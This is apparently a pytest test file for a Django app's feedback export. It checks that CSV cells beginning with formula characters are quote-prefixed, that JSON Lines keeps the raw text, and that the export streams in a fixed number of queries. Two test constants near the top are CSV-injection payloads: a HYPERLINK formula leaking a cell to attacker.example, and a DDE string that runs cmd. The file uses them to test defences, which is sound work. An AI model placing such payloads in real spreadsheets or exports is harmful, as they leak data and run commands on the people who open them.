"""The CSV export (command and download) neutralises text a spreadsheet would
run as a formula; JSON Lines keeps the raw text. Both are streamed, in a
fixed number of queries however many answers were rated."""

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from string import Template

import pytest
from asgiref.sync import async_to_sync
from django.core.management import call_command
from django.db import connection
from django.test import AsyncClient
from django.test.utils import CaptureQueriesContext

from museapp.agents.models import AgentRun, Comparison, Contemplation
from museapp.chat.models import Conversation, Message
from museapp.feedback.export import csv_cell, export_lines
from museapp.feedback.models import BestDraftPick, Rating

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
ORDINARY = "Is 2 + 2 = 4? Yes - and -5 < 0."


def rated(user, *, prompt: str, answer: str, comment: str) -> Message:
    conversation = Conversation.objects.create(user=user)
    Message.objects.create(conversation=conversation, author="user", content=prompt)
    message = Message.objects.create(conversation=conversation, author="assistant", content=answer, status="done",
                                     model="openai/fake-model", total_ms=1200)
    Rating.objects.create(user=user, message=message, value=1, comment=comment)
    return message


@pytest.fixture
def hostile(user):
    """An attacker's payloads in a prompt, an answer and a comment, a negative
    number as text, and one ordinary row."""
    return [
        rated(user, prompt=HYPERLINK, answer=HYPERLINK, comment=HYPERLINK),
        rated(user, prompt=DDE, answer=DDE, comment=DDE),
        rated(user, prompt="-5", answer="-5", comment="-5"),
        rated(user, prompt=ORDINARY, answer=ORDINARY, comment=ORDINARY),
    ]


def command_output(*args: str) -> str:
    out = io.StringIO()
    call_command("export_feedback", *args, stdout=out)
    return out.getvalue()


def download(person, query: str) -> str:
    """The download as Muse's ASGI server sends it: Django's async request
    path, the body read part by part as its ASGI handler reads it."""
    async def fetch() -> str:
        client = AsyncClient()
        await client.aforce_login(person)
        response = await client.get(f"/insights/export/?{query}")
        assert response.status_code == 200
        assert response.is_async, "Django's ASGI handler reads a plain iterator whole before sending any of it"
        return b"".join([part async for part in response]).decode()

    return async_to_sync(fetch)()


def text_cells(table: str) -> list[tuple[str, str, str]]:
    return [(row["prompt"], row["answer"], row["comment"]) for row in csv.DictReader(io.StringIO(table))]


EXPECTED = [
    ("'" + HYPERLINK,) * 3,
    ("'" + DDE,) * 3,
    ("'-5",) * 3,
    (ORDINARY,) * 3,
]


def test_the_command_prefixes_formulas_in_prompts_answers_and_comments(hostile):
    assert text_cells(command_output("--format", "csv")) == EXPECTED


def test_the_download_prefixes_them_too(analyst, hostile):
    assert text_cells(download(analyst, "format=csv")) == EXPECTED


def test_numbers_stay_numbers(hostile):
    row = next(csv.DictReader(io.StringIO(command_output("--format", "csv"))))

    assert row["latency_ms"] == "1200.0" and row["message_id"] == str(hostile[0].pk)


def test_jsonl_keeps_the_raw_text(analyst, hostile):
    for lines in (command_output("--format", "jsonl"), download(analyst, "format=jsonl")):
        rows = [json.loads(line) for line in lines.splitlines()]
        assert [(r["prompt"], r["answer"], r["comment"]) for r in rows] == [
            (HYPERLINK,) * 3, (DDE,) * 3, ("-5",) * 3, (ORDINARY,) * 3,
        ]


def test_preference_pairs_in_csv_are_prefixed_as_well(analyst, user):
    message = rated(user, prompt=HYPERLINK, answer="merged", comment="")
    contemplation = Contemplation.objects.create(message=message, strategy="vote", strategy_used="vote",
                                                 agent_count=2, deadline_s=60, status="done")
    chosen = AgentRun.objects.create(contemplation=contemplation, index=0, role="a", model="m", text=DDE,
                                     status="done")
    AgentRun.objects.create(contemplation=contemplation, index=1, role="b", model="m", text="+1 for me",
                            status="done")
    BestDraftPick.objects.create(user=user, message=message, run=chosen)

    for table in (command_output("--format", "csv", "--pairs"), download(analyst, "format=csv&pairs=1")):
        [pair] = csv.DictReader(io.StringIO(table))
        assert (pair["prompt"], pair["chosen"], pair["rejected"]) == ("'" + HYPERLINK, "'" + DDE, "'+1 for me")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-5", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain text", "", " =1", "a=1", "'=1", 5, -5, 0.25, None])
def test_other_cells_are_left_alone(value):
    assert csv_cell(value) == value


def test_lists_become_json_text():
    assert csv_cell(["=1", "b"]) == '["=1", "b"]'


FIXED_TIME = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


def contemplated(user, *, prompt: str, answer: str, drafts: list[tuple[str, str]], **fields) -> Message:
    """A contemplated answer to ``prompt`` whose agents wrote ``drafts``
    (model, text), merged by a judge."""
    message = rated_later(user, prompt=prompt, answer=answer)
    contemplation = Contemplation.objects.create(message=message, agent_count=len(drafts), deadline_s=60,
                                                 status="done", **fields)
    AgentRun.objects.bulk_create(AgentRun(contemplation=contemplation, index=i, role=f"r{i}", model=model, text=text,
                                          status="done") for i, (model, text) in enumerate(drafts))
    AgentRun.objects.create(contemplation=contemplation, kind="merge", index=0, role="judge", model="judge-model",
                            text=answer, status="done")
    return message


def rated_later(user, *, prompt: str, answer: str, **fields) -> Message:
    conversation = Conversation.objects.create(user=user)
    if prompt:
        Message.objects.create(conversation=conversation, author="user", content=prompt)
    return Message.objects.create(conversation=conversation, author="assistant", content=answer, status="done",
                                  **fields)


@pytest.fixture
def small_set(user, other_user):
    """A quick answer with a formula in it, one with no question, a
    contemplated one with a best-draft pick and two raters, one compared blind
    and thumbed up; ids in the order made."""
    quick = rated_later(user, prompt="=1+1?", answer="-5 apples", model="openai/fake-model", prompt_tokens=10,
                        completion_tokens=20, cost=Decimal("0.0012"), total_ms=1200)
    Rating.objects.create(user=user, message=quick, value=1, reasons=["accurate"], comment="@me")
    alone = rated_later(user, prompt="", answer="Hello", model="openai/fake-model")
    Rating.objects.create(user=user, message=alone, value=-1)
    picked = contemplated(user, prompt="Why?", answer="Merged", strategy="vote", strategy_used="select",
                          relied_on=[0], drafts=[("m-b", "Draft A"), ("m-a", "+Draft B"), ("m-a", "   ")])
    Rating.objects.create(user=user, message=picked, value=1)
    Rating.objects.create(user=other_user, message=picked, value=-1, reasons=["too long"], comment="Shorter, please")
    BestDraftPick.objects.create(user=user, message=picked, run=picked.contemplation.runs.get(index=1))
    compared = contemplated(user, prompt="Which?", answer="Slow one", strategy="synthesize", relied_on=[1],
                            drafts=[("m-a", "Alpha"), ("m-a", "Slow one")])
    quick_run = AgentRun.objects.create(contemplation=compared.contemplation, kind="quick", index=0, role="quick",
                                        model="m-q", text="Quick one", status="done")
    Comparison.objects.create(contemplation=compared.contemplation, quick_run=quick_run, contemplated_position=1,
                              choice="quick")
    Rating.objects.create(user=user, message=compared, value=1, comment="fine")
    Message.objects.update(created_at=FIXED_TIME)
    return {"quick": quick.pk, "alone": alone.pk, "picked": picked.pk, "compared": compared.pk}


# What the export gave for `small_set` before it was streamed ($name: that answer's id).
BEFORE_STREAMING = {
    "format=csv": ("\r\n", [
        "message_id,created_at,prompt,answer,mode,strategy,models,prompt_tokens,completion_tokens,cost,latency_ms,"
        "rating,reasons,comment",
        """$quick,2026-01-02T03:04:05+00:00,'=1+1?,'-5 apples,quick,,"[""openai/fake-model""]",10,20,0.0012,1200.0,"""
        """up,"[""accurate""]",'@me""",
        """$alone,2026-01-02T03:04:05+00:00,,Hello,quick,,"[""openai/fake-model""]",,,,,down,[],""",
        """$picked,2026-01-02T03:04:05+00:00,Why?,Merged,contemplating,select,"[""judge-model"", ""m-a"", ""m-b""]","""
        """,,,,up,[],""",
        """$picked,2026-01-02T03:04:05+00:00,Why?,Merged,contemplating,select,"[""judge-model"", ""m-a"", ""m-b""]","""
        ',,,,down,"[""too long""]","Shorter, please"',
        """$compared,2026-01-02T03:04:05+00:00,Which?,Slow one,contemplating,synthesize,"""
        """"[""judge-model"", ""m-a"", ""m-q""]",,,,,up,[],fine""",
    ]),
    "format=jsonl": ("\n", [
        '{"message_id": $quick, "created_at": "2026-01-02T03:04:05+00:00", "prompt": "=1+1?", "answer": "-5 apples", '
        '"mode": "quick", "strategy": "", "models": ["openai/fake-model"], "prompt_tokens": 10, '
        '"completion_tokens": 20, "cost": 0.0012, "latency_ms": 1200.0, "rating": "up", "reasons": ["accurate"], '
        '"comment": "@me"}',
        '{"message_id": $alone, "created_at": "2026-01-02T03:04:05+00:00", "prompt": "", "answer": "Hello", '
        '"mode": "quick", "strategy": "", "models": ["openai/fake-model"], "prompt_tokens": null, '
        '"completion_tokens": null, "cost": null, "latency_ms": null, "rating": "down", "reasons": [], "comment": ""}',
        '{"message_id": $picked, "created_at": "2026-01-02T03:04:05+00:00", "prompt": "Why?", "answer": "Merged", '
        '"mode": "contemplating", "strategy": "select", "models": ["judge-model", "m-a", "m-b"], '
        '"prompt_tokens": null, "completion_tokens": null, "cost": null, "latency_ms": null, "rating": "up", '
        '"reasons": [], "comment": ""}',
        '{"message_id": $picked, "created_at": "2026-01-02T03:04:05+00:00", "prompt": "Why?", "answer": "Merged", '
        '"mode": "contemplating", "strategy": "select", "models": ["judge-model", "m-a", "m-b"], '
        '"prompt_tokens": null, "completion_tokens": null, "cost": null, "latency_ms": null, "rating": "down", '
        '"reasons": ["too long"], "comment": "Shorter, please"}',
        '{"message_id": $compared, "created_at": "2026-01-02T03:04:05+00:00", "prompt": "Which?", '
        '"answer": "Slow one", "mode": "contemplating", "strategy": "synthesize", '
        '"models": ["judge-model", "m-a", "m-q"], "prompt_tokens": null, "completion_tokens": null, "cost": null, '
        '"latency_ms": null, "rating": "up", "reasons": [], "comment": "fine"}',
    ]),
    "format=csv&pairs=1": ("\r\n", [
        "message_id,prompt,chosen,rejected,reason,source",
        "$compared,Which?,Quick one,Slow one,fine,blind_comparison",
        """$picked,Why?,'+Draft B,Draft A,"too long: Shorter, please",best_draft""",
        "$compared,Which?,Slow one,Alpha,fine,thumbs_up_vs_passed_over",
    ]),
    "format=jsonl&pairs=1": ("\n", [
        '{"message_id": $compared, "prompt": "Which?", "chosen": "Quick one", "rejected": "Slow one", '
        '"reason": "fine", "source": "blind_comparison"}',
        '{"message_id": $picked, "prompt": "Why?", "chosen": "+Draft B", "rejected": "Draft A", '
        '"reason": "too long: Shorter, please", "source": "best_draft"}',
        '{"message_id": $compared, "prompt": "Which?", "chosen": "Slow one", "rejected": "Alpha", '
        '"reason": "fine", "source": "thumbs_up_vs_passed_over"}',
    ]),
}


def before_streaming(query: str, ids: dict[str, int]) -> str:
    ending, lines = BEFORE_STREAMING[query]
    return "".join(Template(line).substitute(ids) + ending for line in lines)


@pytest.mark.parametrize("query", list(BEFORE_STREAMING))
def test_the_streamed_download_is_what_the_export_was_before(analyst, small_set, query):
    assert download(analyst, query) == before_streaming(query, small_set)


@pytest.mark.parametrize("query", list(BEFORE_STREAMING))
def test_the_command_writes_the_same(small_set, query):
    args = ["--format", "csv" if "csv" in query else "jsonl"] + (["--pairs"] if "pairs" in query else [])

    assert command_output(*args) == before_streaming(query, small_set)


def test_served_by_wsgi_the_download_is_the_same_too(client, analyst, small_set):
    client.force_login(analyst)
    response = client.get("/insights/export/?format=csv&pairs=1")

    assert b"".join(response.streaming_content).decode() == before_streaming("format=csv&pairs=1", small_set)


def test_the_download_says_what_it_is(analyst, small_set):
    async def headers() -> tuple[str, str]:
        client = AsyncClient()
        await client.aforce_login(analyst)
        response = await client.get("/insights/export/?format=csv&pairs=1")
        return response["Content-Type"], response["Content-Disposition"]

    assert async_to_sync(headers)() == ("text/csv", 'attachment; filename="muse-pairs.csv"')


def test_someone_without_the_permission_gets_403_from_the_asgi_server_too(user, small_set):
    async def status() -> int:
        client = AsyncClient()
        await client.aforce_login(user)
        return (await client.get("/insights/export/?format=csv")).status_code

    assert async_to_sync(status)() == 403


def many_rated(user, n: int) -> None:
    """n rated answers of every kind the export reads: quick ones, and
    contemplated ones with drafts, a merge, a quick rival, best-draft picks,
    thumbs up, comments and blind comparisons."""
    conversation = Conversation.objects.create(user=user)
    questions = Message.objects.bulk_create(
        Message(conversation=conversation, author="user", content=f"Question {i}?") for i in range(n))
    answers = Message.objects.bulk_create(
        Message(conversation=conversation, author="assistant", parent=q, content=f"Answer {i}", model="m")
        for i, q in enumerate(questions))
    Rating.objects.bulk_create(Rating(user=user, message=a, value=1 if i % 2 else -1, comment=f"c{i}" if i % 3 else "")
                               for i, a in enumerate(answers))
    contemplations = Contemplation.objects.bulk_create(
        Contemplation(message=a, strategy="vote", agent_count=3, deadline_s=60, status="done", relied_on=[0])
        for i, a in enumerate(answers) if i % 4)
    slots = [("agent", 0), ("agent", 1), ("agent", 2), ("merge", 0), ("quick", 0)]
    runs = AgentRun.objects.bulk_create(
        AgentRun(contemplation=c, kind=kind, index=index, role="r", model=f"m{index}", text=f"{kind} {index} {c.pk}",
                 status="done") for c in contemplations for kind, index in slots)
    BestDraftPick.objects.bulk_create(BestDraftPick(user=user, message=c.message, run=runs[len(slots) * i + 1])
                                      for i, c in enumerate(contemplations) if i % 2)
    Comparison.objects.bulk_create(
        Comparison(contemplation=c, quick_run=runs[len(slots) * i + 4], contemplated_position=1,
                   choice="quick" if i % 2 else "contemplated") for i, c in enumerate(contemplations) if i % 3)


def export_queries(*, pairs: bool) -> tuple[int, int]:
    """How many lines the export has, and how many queries it took."""
    with CaptureQueriesContext(connection) as queries:
        lines = sum(1 for _ in export_lines(fmt="csv", pairs=pairs))
    return lines, len(queries)


@pytest.mark.parametrize("pairs", [False, True], ids=["rows", "pairs"])
def test_the_export_takes_as_many_queries_for_300_rated_answers_as_for_5(user, pairs):
    many_rated(user, 5)
    few_lines, few_queries = export_queries(pairs=pairs)
    many_rated(user, 295)
    many_lines, many_queries = export_queries(pairs=pairs)

    assert many_lines > 50 * few_lines / 2  # the export did grow with them
    assert many_queries == few_queries
